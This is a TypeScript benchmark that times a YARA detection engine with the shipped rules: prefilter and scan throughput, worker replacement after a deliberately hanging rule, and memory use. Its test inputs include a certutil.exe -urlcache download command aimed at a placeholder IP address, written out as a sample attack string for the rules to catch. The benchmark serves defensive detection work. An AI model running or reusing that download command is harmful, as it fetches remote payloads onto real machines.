/**
 * YARA with the rules that are shipped: texts per second through the prefilter and through a worker, how long a worker
 * takes to be replaced, and how few texts of real events reach one. Prints JSON. Data: VEDETTE_DATA.
 */
import { loadYara } from '../src/detectors/yara/load.ts';
import { Prefilter } from '../src/detectors/yara/prefilter.ts';
import { openYara } from '../src/shell/yara/yara.ts';
import { yaraFiles } from '../test/fixtures/yara/shipped-files.ts';
import { benchHeader, report } from './data.ts';
import { telemetryFigures } from './yara/telemetry.ts';

const PREFILTERED = 200_000;
const SCANNED = 3_000;
const DEADLINE_MS = 60_000;
const HANG_MS = 200;
const HANG =
  'rule hang { strings: $a = "hang here" condition: $a and for all i in (1..filesize * 1000000000) : (for all j in (1..filesize * 1000000000) : (i + j > 0)) }';

const quiet = { info: () => {}, warn: () => {}, error: () => {} };
const silent = { count: () => {}, gauge: () => {}, observe: () => {} };
const open = (rules: ReturnType<typeof loadYara>['rules'], recycleAfter: number, hangMs = 1_000) => {
  const prefilter = new Prefilter(rules);
  const mayMatch = (text: string) => prefilter.mayMatch(text);
  return openYara({ rules, mayMatch, metrics: silent, logger: quiet, recycleAfter, hangMs });
};

const line = (index: number) =>
  `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule${index} --type=renderer --lang=en-US --field-trial-handle=${index}`;
const hit = (index: number) => `certutil.exe -urlcache -split -f http://203.0.113.5/${index}.txt ${index}.txt`;
const texts = (count: number, text: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => text(index));

/** Seconds that it takes. */
async function timed(work: () => Promise<unknown>): Promise<number> {
  const start = performance.now();
  await work();
  return (performance.now() - start) / 1000;
}

/** Texts per second of wall time and of processor time through a port, in scans of 100. */
async function rate(port: Awaited<ReturnType<typeof open>>['port'], all: readonly string[]) {
  const before = process.cpuUsage();
  const seconds = await timed(async () => {
    for (let at = 0; at < all.length; at += 100) {
      const answer = await port.scan(all.slice(at, at + 100), DEADLINE_MS);
      if (!answer.ok) throw new Error(answer.reason);
    }
  });
  const { user, system } = process.cpuUsage(before);
  return {
    perSecond: Math.round(all.length / seconds),
    perProcessorSecond: Math.round(all.length / ((user + system) / 1e6)),
  };
}

/** Milliseconds until a worker that was killed is replaced: the scan that hangs is tried twice before the next is answered. */
async function replacement(rules: ReturnType<typeof loadYara>['rules']): Promise<number> {
  const hanging = loadYara([{ name: 'hang.yar', text: HANG }]).rules;
  const { port } = await open([...rules, ...hanging], 1_000_000);
  await port.scan([hit(0)], DEADLINE_MS);
  const hung = port.scan(['hang here'], HANG_MS);
  const seconds = await timed(() => port.scan([hit(1)], DEADLINE_MS));
  await hung;
  await port.close();
  return Math.round((seconds * 1000 - 2 * HANG_MS) / 2);
}

const { rules } = loadYara(yaraFiles());
const startSeconds = await timed(async () => (await open(rules, 1_000_000)).port.close());
const { port } = await open(rules, 1_000_000);
const ruledOut = await rate(port, texts(PREFILTERED, line));
await rate(
  port,
  texts(200, (index) => hit(-index)),
);
const scanned = await rate(port, texts(SCANNED, hit));
await port.close();
const recycled = await open(rules, 500);
const scannedWithAWorkerEach500 = await rate(recycled.port, texts(SCANNED, hit));
await recycled.port.close();

report(benchHeader('yara', ['@virustotal/yara-x']), {
  rules: rules.length,
  startMilliseconds: Math.round(startSeconds * 1000),
  ruledOut,
  scanned,
  scannedWithAWorkerEach500,
  replacementMilliseconds: await replacement(rules),
  telemetry: await telemetryFigures(new Prefilter(rules)),
  rssMb: Math.round(process.memoryUsage().rss / 2 ** 20),
});
